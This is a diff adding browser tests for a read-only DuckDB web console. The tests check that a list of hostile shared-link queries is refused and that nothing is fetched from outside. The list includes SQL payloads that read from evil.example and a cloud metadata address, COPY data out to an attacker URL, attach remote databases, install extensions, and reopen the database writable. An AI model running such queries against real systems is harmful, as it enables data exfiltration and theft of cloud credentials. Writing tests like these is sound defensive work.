@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import functools
 import http.server
+import json
 import os
 import shutil
 import subprocess
@@ -259,6 +260,61 @@ def test_bad_sql_and_writes_get_a_clear_error(visit: Visit) -> None:
     assert run_sql(visit, "DELETE FROM sample") == "error"
     assert "read-only" in visit.page.inner_text(".taxreg-console__error")
     assert run_sql(visit, "SELECT 1 AS ok") == "done" and not visit.page.is_visible(".taxreg-console__error")
+    visit.assert_clean()
+
+
+# Shared links that would make a visitor's browser contact other hosts, fetch extensions or reopen the
+# database writable: each must be refused on the page, and nothing may leave 127.0.0.1.
+HOSTILE_QUERIES = {
+    "SELECT * FROM read_csv('http://evil.example/pixel.csv')": "Permission Error",
+    "SELECT * FROM 'https://evil.example/data.csv'": "Permission Error",
+    "SELECT * FROM read_text('http://169.254.169.254/latest/meta-data/')": "Permission Error",
+    "SELECT * FROM query('SELECT * FROM read_text(''http://evil.example/q'')')": "Permission Error",
+    "SET autoinstall_known_extensions = true; SET autoload_known_extensions = true;\n"
+    "SELECT * FROM read_parquet('https://evil.example/x.parquet')": "Refused: SET statements",
+    "USE memory; DETACH audit; ATTACH 'audit.duckdb' AS audit;\n"
+    "CREATE TABLE audit.pwned AS SELECT 1": "Refused: USE statements",
+    "DETACH audit": "Refused: DETACH statements",
+    "SELECT 1; ATTACH 'https://evil.example/x.duckdb' AS x": "Refused: ATTACH statements",
+    "INSTALL httpfs": "Refused: INSTALL statements",
+    "SELECT 'Gutenberg’s “press” 😀'; INSTALL httpfs": "Refused: INSTALL statements",  # offsets are in bytes
+    "LOAD httpfs": "Refused: LOAD statements",
+    "RESET lock_configuration": "Refused: RESET statements",
+    "SELECT 1; /* ; */ COPY (SELECT 1) TO 'http://evil.example/out.csv'": "Refused: COPY statements",
+}
+
+
+def test_hostile_shared_links_are_refused_and_fetch_nothing(visit: Visit) -> None:
+    page = visit.page
+    for sql, refusal in HOSTILE_QUERIES.items():
+        page.goto("about:blank")
+        console(visit, sql).wait_for_selector(SETTLED, timeout=90_000)
+        assert page.get_attribute("#taxreg-console", "data-state") == "error", sql
+        message = page.inner_text(".taxreg-console__error")
+        assert refusal in message and "read-only" in message, (sql, message)
+        assert visit.external == [], (sql, visit.external)
+    # The engine's own guards hold after all of them: the database is still the read-only audit copy.
+    guards = ("SELECT readonly::VARCHAR AS ro, current_setting('enable_external_access')::VARCHAR AS ext, "
+              "current_setting('lock_configuration')::VARCHAR AS locked, "
+              "current_setting('autoinstall_known_extensions')::VARCHAR AS install "
+              "FROM duckdb_databases() WHERE database_name = 'audit'")
+    assert run_sql(visit, guards) == "done"
+    assert cells(visit) == [["true", "false", "true", "false"]]
+    assert "attached read-only" in page.inner_text(".taxreg-console__status")
+    visit.assert_clean()
+
+
+def test_every_canned_query_runs(visit: Visit, site: Path) -> None:
+    page = console(visit)
+    page.wait_for_selector("#taxreg-console[data-ready='1']", timeout=90_000)
+    titles = [q["title"] for q in json.loads((site / "audit/engine/queries.json").read_text(encoding="utf-8"))]
+    assert len(titles) >= 6
+    for title in titles:
+        page.evaluate("document.querySelector('#taxreg-console').removeAttribute('data-state')")
+        page.select_option(".taxreg-console__canned", label=title)
+        page.wait_for_selector(SETTLED, timeout=30_000)
+        assert page.get_attribute("#taxreg-console", "data-state") == "done", (title, page.inner_text(
+            ".taxreg-console__error"))
     visit.assert_clean()
 
 
